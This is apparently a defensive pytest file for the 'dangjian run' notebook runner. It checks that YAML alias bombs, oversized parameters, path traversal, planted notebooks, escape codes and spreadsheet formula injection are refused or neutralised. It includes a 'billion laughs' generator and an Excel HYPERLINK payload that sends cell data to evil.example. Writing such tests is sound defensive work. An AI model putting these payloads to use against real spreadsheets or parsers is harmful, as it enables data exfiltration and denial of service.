"""`dangjian run` on hostile parameter files, input folders and project folders, and Excel exports
of hostile text: each is refused early with one line naming the file, or handled safely.

Parameter files are read with bounded time and memory (no alias expansion, size and value limits);
a report's inputs are fingerprinted from what the corpus loader reads, within limits; a run lock that
cannot be created is one line and exit code 2; an .xlsx never holds a formula taken from the data.
"""

from __future__ import annotations

import contextlib
import io
import os
import shutil
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from dangjian import cli
from dangjian.project.io import write_table
from dangjian.project.params import (
    MAX_FILE_BYTES,
    MAX_ITEMS,
    MAX_NODES,
    MAX_TEXT_CHARS,
    ParameterError,
    ReportSpec,
    load_report_spec,
    shown,
)
from dangjian.running import freshness

PARAMETERS_CELL = (
    'corpus_dir = "data/raw"  # role: corpus\nfigure_prefix = "corpus"  # role: figure_prefix\nlabel = "全部"\nyear = 2020\n'
    'regions = ["甘肃"]\nextra = None\n'
)


def make_project(root: Path) -> Path:
    """A project with one notebook (never executed by these tests) and a corpus folder."""
    root.mkdir()
    (root / "pyproject.toml").write_text("[project]\nname = 'scratch'\n", encoding="utf-8")
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [
        nbformat.v4.new_code_cell(PARAMETERS_CELL, metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("print(label)"),
    ]
    (root / "notebooks").mkdir()
    nbformat.write(notebook, root / "notebooks" / "nb.ipynb")
    (root / "parameters").mkdir()
    raw = root / "data" / "raw"
    raw.mkdir(parents=True)
    (raw / "a.txt").write_text("基层党建工作总结", encoding="utf-8")
    return root


@pytest.fixture
def project(tmp_path) -> Path:
    return make_project(tmp_path / "project")


def write_params(root: Path, stem: str, body: str) -> Path:
    path = root / "parameters" / f"{stem}.yaml"
    path.write_text("notebook: notebooks/nb.ipynb\n" + body, encoding="utf-8")
    return path


def run_cli(root: Path, *args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(["run", "--root", str(root), "--no-progress", *args])
    return code, out.getvalue(), err.getvalue()


def refused(path: Path, root: Path, traced: bool = True) -> tuple[str, float, int | None]:
    """The ParameterError message for ``path``, the seconds it took, and (if ``traced``) the peak
    bytes allocated, measured in a second pass: tracing allocations slows Python down many times."""
    started = time.perf_counter()
    with pytest.raises(ParameterError) as info:
        load_report_spec(path, root)
    seconds = time.perf_counter() - started
    peak = None
    if traced:
        tracemalloc.start()
        try:
            with pytest.raises(ParameterError):
                load_report_spec(path, root)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    return str(info.value), seconds, peak


# ----------------------------------------------------------------- parameter files


def billion_laughs(levels: int) -> str:
    """A parameter file whose ``regions`` list expands to 9**levels strings through aliases."""
    lines = ["notebook: notebooks/nb.ipynb", "parameters:", "  regions:", "  - &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]"]
    names = "abcdefghijk"
    for previous, name in zip(names, names[1 : levels]):
        lines.append(f"  - &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_is_refused_at_once_with_a_short_message_naming_file_and_line(project):
    text = billion_laughs(9)  # 9**9 = 387 million strings once expanded
    assert len(text.encode()) < 420
    path = project / "parameters" / "bomb.yaml"
    path.write_text(text, encoding="utf-8")
    message, seconds, peak = refused(path, project)
    assert message == (
        f"{path}: line 4, column 5: anchors and aliases (&name, *name) are not allowed in a parameter file; "
        "write each value out"
    )
    assert len(message) < 500 and seconds < 2 and peak < 50 * 2**20


def test_a_single_alias_is_refused_too(project):
    path = write_params(project, "alias", "parameters:\n  label: &l 甘肃\n  extra: *l\n")
    message, _, _ = refused(path, project, traced=False)
    assert message.startswith(f"{path}: line 3, column 10: anchors and aliases")


@pytest.mark.parametrize(
    ("body", "problem", "traced"),
    [
        ("#" * MAX_FILE_BYTES, f"larger than {MAX_FILE_BYTES:,} bytes", True),
        ("parameters:\n  extra: " + "[" * 5_000 + "]" * 5_000 + "\n", "line 3, column 18: nested deeper than 10 levels", False),
        ("parameters:\n  extra: [" + "0," * (MAX_NODES + 10) + "]\n", f"more than {MAX_NODES:,} values", False),
    ],
    ids=["file-size", "nesting", "values"],
)
def test_oversized_parameter_files_are_refused_quickly(project, body, problem, traced):
    path = write_params(project, "big", body)
    message, seconds, peak = refused(path, project, traced)
    assert message.startswith(f"{path}: ") and problem in message
    assert "\n" not in message and len(message) < 500
    assert seconds < 3 and (peak is None or peak < 20 * 2**20)


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (f"  label: {'长' * (MAX_TEXT_CHARS + 1)}\n", f"parameter 'label' is text of 4,097 characters; at most {MAX_TEXT_CHARS:,}"),
        (f"  regions: [{', '.join(['甘肃'] * (MAX_ITEMS + 1))}]\n", f"parameter 'regions' is a collection of 1,001 items; at most {MAX_ITEMS:,}"),
        (f"  extra: {{a: [1, {'x' * 5000}]}}\n", "parameter 'extra' holds text of 5,000 characters"),
        (f"  {'k' * 1000}: 1\n", f"unknown parameter '{'k' * 79}… (1002 characters)"),
    ],
    ids=["long-text", "long-list", "nested-text", "long-key"],
)
def test_oversized_values_are_refused_naming_file_key_and_limit(project, body, problem):
    path = write_params(project, "values", "parameters:\n" + body)
    message, _, _ = refused(path, project, traced=False)
    assert message.startswith(f"{path}: ") and problem in message
    assert len(message) < 600  # a long key is cut; the valid parameters are listed


def test_a_long_value_of_the_wrong_type_is_shown_cut_in_the_message(project):
    path = write_params(project, "typed", f"parameters:\n  year: '{'9' * 4000}'\n")
    message, _, _ = refused(path, project, traced=False)
    assert f"parameter 'year' must be int like its default 2020 in notebooks/nb.ipynb, got str '{'9' * 79}… (4002 characters)" in message
    assert len(message) < 600


@pytest.mark.parametrize(
    ("value", "problem"),
    [("1" * 5000, "Exceeds the limit (4300 digits)"), ("!!int abc", "invalid literal for int()"), ("!!timestamp 2024-13-45", "month must be in 1..12")],
    ids=["huge-number", "bad-int", "bad-date"],
)
def test_a_value_that_does_not_convert_is_a_parameter_error(project, value, problem):
    path = write_params(project, "convert", f"parameters:\n  year: {value}\n")
    with pytest.raises(ParameterError, match=r"convert\.yaml: invalid value: ") as info:
        load_report_spec(path, project)
    assert problem in str(info.value) and len(str(info.value)) < 500


def test_a_300_character_figure_prefix_is_one_line_before_anything_runs(project):
    path = write_params(project, "long", f"parameters:\n  figure_prefix: {'x' * 300}\n")
    code, out, err = run_cli(project)
    assert code == 2 and out == ""
    assert err.splitlines() == [
        f"error: {path}: parameter 'figure_prefix' starts figure file names, and '{'x' * 79}… (302 characters) "
        "is 300 bytes in UTF-8; at most 100 are allowed; use letters, digits, '_', '-' and '.', at most 100 bytes",
        "nothing was run: fix the 1 problem(s) above",
    ]
    assert not (project / "reports").exists()


@pytest.mark.parametrize("prefix", ["../../data/raw/x", "a b", ".hidden", "x\x1b[2J"])
def test_a_figure_prefix_that_is_not_a_plain_name_is_refused(project, prefix):
    path = write_params(project, "prefix", f'parameters:\n  figure_prefix: "{prefix.encode("unicode_escape").decode()}"\n')
    with pytest.raises(ParameterError, match="parameter 'figure_prefix' starts figure file names"):
        load_report_spec(path, project)


@pytest.mark.parametrize("where", ["absolute", "corpus", "step-out"])
def test_a_parameter_file_runs_only_a_notebook_of_the_project(project, tmp_path, where):
    """A notebook is code: one dropped beside the corpus or anywhere else is never run by naming it."""
    planted = {"absolute": tmp_path / "planted.ipynb", "corpus": project / "data" / "raw" / "planted.ipynb"}.get(where)
    planted = planted or project / "planted.ipynb"
    nbformat.write(nbformat.v4.new_notebook(), planted)
    named = {"absolute": str(planted), "corpus": "data/raw/planted.ipynb", "step-out": "notebooks/../planted.ipynb"}[where]
    path = write_params(project, "planted", "")
    path.write_text(f"notebook: {named}\nparameters: {{}}\n", encoding="utf-8")
    with pytest.raises(ParameterError) as info:
        load_report_spec(path, project)
    assert str(info.value) == (
        f"{path}: 'notebook' must name a notebook of the project's notebooks/ folder, such as "
        f"notebooks/00_corpus.ipynb, got {shown(named)}: a parameter file never runs code from elsewhere"
    )
    code, out, err = run_cli(project, "--params", str(path))
    assert code == 2 and out == "" and "never runs code from elsewhere" in err
    assert not (project / "reports" / "planted.ipynb").exists()
    assert load_report_spec(write_params(project, "dot", ""), project).notebook == Path("notebooks/nb.ipynb")


def test_a_report_name_that_is_not_a_plain_name_is_refused(project):
    path = write_params(project, "my report", "")
    with pytest.raises(ParameterError, match=r"the report is named after the file, and 'my report' holds characters"):
        load_report_spec(path, project)
    assert load_report_spec(write_params(project, "年度_报告-2024", ""), project).name == "年度_报告-2024"


def test_a_long_text_parameter_within_limits_is_accepted_and_fingerprinted(project):
    label = "标" * 300  # too long for a file name; only a path check would have stumbled on it
    spec = load_report_spec(write_params(project, "label", f"parameters:\n  label: {label}\n"), project)
    assert spec.parameters["label"] == label
    assert freshness.inputs_fingerprint(spec, project) != freshness.inputs_fingerprint(spec_for(project), project)


def test_a_doc_id_that_leads_into_the_raw_folder_stops_the_run_before_anything_is_written(project):
    raw = project / "data" / "raw"
    (raw / "metadata.csv").write_text("doc_id,file\n../../../raw/a,a.txt\n", encoding="utf-8")
    write_params(project, "nb", "")
    before = {path.name: path.read_bytes() for path in raw.iterdir()}
    code, out, err = run_cli(project)
    assert code == 2 and out == ""
    assert err.splitlines() == [
        f"dangjian run: {raw / 'metadata.csv'}: row 2 (doc_id '../../../raw/a'): the doc_id contains '/' "
        "(a path, not a name); use a plain name such as report-2024 (it names the output files)"
    ]
    assert {path.name: path.read_bytes() for path in raw.iterdir()} == before
    written = {path.relative_to(project).as_posix() for path in project.rglob("*") if path.is_file()}
    assert written - {"pyproject.toml", "notebooks/nb.ipynb", "parameters/nb.yaml", "data/raw/a.txt", "data/raw/metadata.csv"} == {
        "reports/.state/run.lock"
    }


def test_control_characters_in_what_run_prints_are_escaped(project):
    write_params(project, "evil\x1b[2J", "parameters:\n  year: 1\n")
    code, _, err = run_cli(project)
    assert code == 2
    assert "\x1b" not in err and "evil\\x1b[2J.yaml" in err


# ----------------------------------------------------------------- input fingerprints


def spec_for(project: Path, **parameters) -> ReportSpec:
    return ReportSpec("r", project / "parameters" / "r.yaml", Path("notebooks/nb.ipynb"), parameters)


def test_a_folder_with_more_entries_than_the_limit_is_refused_fast_naming_parameter_and_folder(project):
    crowded = project / "crowded"
    crowded.mkdir()
    for index in range(30):
        (crowded / f"{index}.txt").write_bytes(b"x")
    started = time.perf_counter()
    with pytest.raises(ParameterError) as info:
        freshness.inputs_fingerprint(spec_for(project, corpus_dir="crowded"), project, max_entries=20)
    assert time.perf_counter() - started < 2
    assert str(info.value).startswith(
        f"{project / 'parameters' / 'r.yaml'}: parameter 'corpus_dir' names 'crowded', which holds more than 20 entries"
    )
    with pytest.raises(freshness.InputTooLarge, match="more than 20 bytes"):
        freshness.input_digests(crowded, max_bytes=20)
    assert len(freshness.input_digests(crowded)) == 30


@pytest.mark.skipif(not Path("/usr").is_dir(), reason="needs a /usr folder")
def test_corpus_dir_usr_is_fingerprinted_in_well_under_two_seconds(project):
    started = time.perf_counter()
    freshness.inputs_fingerprint(spec_for(project, corpus_dir="/usr"), project)
    assert time.perf_counter() - started < 2


def test_the_fingerprint_covers_what_the_corpus_loader_reads_and_nothing_else(project, tmp_path):
    raw = project / "data" / "raw"
    (raw / "sub").mkdir()
    (raw / "sub" / "listed.txt").write_text("党建", encoding="utf-8")
    (raw / "sub" / "unlisted.txt").write_text("党建", encoding="utf-8")
    (raw / "notes.md").write_text("notes", encoding="utf-8")
    (raw / "metadata.csv").write_text("doc_id,file\na,a.txt\nb,sub/listed.txt\n", encoding="utf-8")
    outside = tmp_path / "outside.txt"
    outside.write_text("外部", encoding="utf-8")
    (raw / "link.txt").symlink_to(outside)
    if hasattr(os, "mkfifo"):
        os.mkfifo(raw / "pipe.txt")  # opening it would wait forever for a writer
    first = freshness.input_digests(raw)
    assert [name for name, _ in first] == ["a.txt", "link.txt", "metadata.csv", "sub/listed.txt"]
    assert dict(first)["link.txt"] == f"link to {outside.resolve().as_posix()}"

    for ignored in (raw / "sub" / "unlisted.txt", raw / "notes.md", outside):
        ignored.write_text("changed", encoding="utf-8")
        assert freshness.input_digests(raw) == first, ignored
    for read in (raw / "a.txt", raw / "sub" / "listed.txt", raw / "metadata.csv"):
        read.write_text(read.read_text(encoding="utf-8") + "\n", encoding="utf-8")
        assert freshness.input_digests(raw) != first, read
        first = freshness.input_digests(raw)


# ----------------------------------------------------------------- the run lock


@pytest.mark.parametrize("blocker", ["reports/.state", "reports"])
def test_a_file_where_the_lock_folder_belongs_is_one_line_and_exit_2(project, blocker):
    write_params(project, "ok", "")
    (project / blocker).parent.mkdir(parents=True, exist_ok=True)
    (project / blocker).write_text("not a folder", encoding="utf-8")
    code, out, err = run_cli(project)
    assert code == 2 and out == ""
    problem = "File exists; it is a file" if blocker == "reports/.state" else "Not a directory; reports is a file"
    assert err.splitlines() == [f"dangjian run: reports/.state: cannot create the run lock: {problem}, not a folder: move it away"]
    assert "Traceback" not in err
    assert (project / blocker).read_text(encoding="utf-8") == "not a folder"


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="permissions do not deny writes to root")
def test_a_read_only_reports_folder_is_one_line_and_exit_2(project):
    write_params(project, "ok", "")
    reports = project / "reports"
    reports.mkdir()
    reports.chmod(0o555)
    try:
        code, out, err = run_cli(project)
    finally:
        reports.chmod(0o755)
    assert code == 2 and out == ""
    assert err.splitlines() == ["dangjian run: reports/.state: cannot create the run lock: Permission denied; make the folder writable"]


READ_ONLY_MOUNT = 'mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" || exit 99; shift; exec "$@"'


@pytest.mark.skipif(sys.platform != "linux" or os.geteuid() != 0 or shutil.which("unshare") is None, reason="needs root and unshare")
def test_a_reports_folder_on_a_read_only_mount_is_one_line_and_exit_2_even_for_root(project):
    """Root writes through permission bits; a read-only mount (in a private mount namespace) stops it."""
    write_params(project, "ok", "")
    reports = project / "reports"
    reports.mkdir()
    command = [sys.executable, "-m", "dangjian.cli", "run", "--root", str(project), "--no-progress"]
    result = subprocess.run(
        ["unshare", "--mount", "sh", "-c", READ_ONLY_MOUNT, "sh", str(reports), *command],
        capture_output=True, text=True, cwd=project, timeout=120,
    )
    if result.returncode == 99 or "unshare:" in result.stderr:
        pytest.skip(f"no private read-only mount here: {result.stderr.strip()}")
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr.splitlines() == ["dangjian run: reports/.state: cannot create the run lock: Read-only file system; make the folder writable"]
    assert list(reports.iterdir()) == []


def test_a_state_record_that_cannot_be_written_mid_run_is_one_line_and_exit_2(project):
    write_params(project, "ok", "")
    (project / "reports" / ".state" / "ok.json").mkdir(parents=True)  # where the run records its state
    code, _, err = run_cli(project)
    assert code == 2
    last = err.splitlines()[-1]
    assert last.startswith("dangjian run: ") and last.endswith(f"Is a directory ({project / 'reports' / '.state' / 'ok.json'})")
    assert "Traceback" not in err


# ----------------------------------------------------------------- Excel exports


def sheet_cells(path: Path) -> str:
    return zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_excel_cells_that_look_like_formulas_are_written_as_text(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "#N/A", "=1"]
    frame = pd.DataFrame({"doc_id": hostile, "count": range(len(hostile)), "share": [0.5] * len(hostile)})
    target = write_table(frame, tmp_path / "t.xlsx")
    sheet = sheet_cells(target)
    assert "<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet
    import openpyxl

    book = openpyxl.load_workbook(target)
    rows = list(book.active.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == [text.replace("\r", "\n") for text in hostile]  # a carriage return is a line break
    assert [row[1] for row in rows] == list(range(len(hostile))) and all(row[2] == 0.5 for row in rows)
    assert all(cell.data_type == "s" for cell in book.active["A"])
    first = target.read_bytes()
    write_table(frame, target)
    assert target.read_bytes() == first


def test_excel_export_survives_control_characters(tmp_path):
    frame = pd.DataFrame({"text\x01": ["第一页\x0c第二页", "a\x00b", "plain"]})
    target = write_table(frame, tmp_path / "t.xlsx")
    import openpyxl

    rows = list(openpyxl.load_workbook(target).active.iter_rows(values_only=True))
    assert rows == [("text\ufffd",), ("第一页\n第二页",), ("a\ufffdb",), ("plain",)]
    assert frame.columns[0] == "text\x01"  # the caller's table is left as it was


def test_csv_keeps_the_data_as_it_is(tmp_path):
    target = write_table(pd.DataFrame({"doc_id": ["=1+1", "@x"]}), tmp_path / "t.csv")
    assert target.read_text(encoding="utf-8") == "doc_id\n=1+1\n@x\n"



def test_excel_cells_over_the_excel_limit_are_cut_visibly(tmp_path):
    """Excel holds 32,767 characters in a cell: a longer text is cut on purpose, ending in …"""
    from dangjian.project.io import EXCEL_CELL_CHARS

    frame = pd.DataFrame({"text": ["党" * (EXCEL_CELL_CHARS + 10), "短"]})
    target = write_table(frame, tmp_path / "t.xlsx")
    import openpyxl

    cells = [row[0] for row in openpyxl.load_workbook(target).active.iter_rows(min_row=2, values_only=True)]
    assert len(cells[0]) == EXCEL_CELL_CHARS and cells[0].endswith("…") and cells[1] == "短"
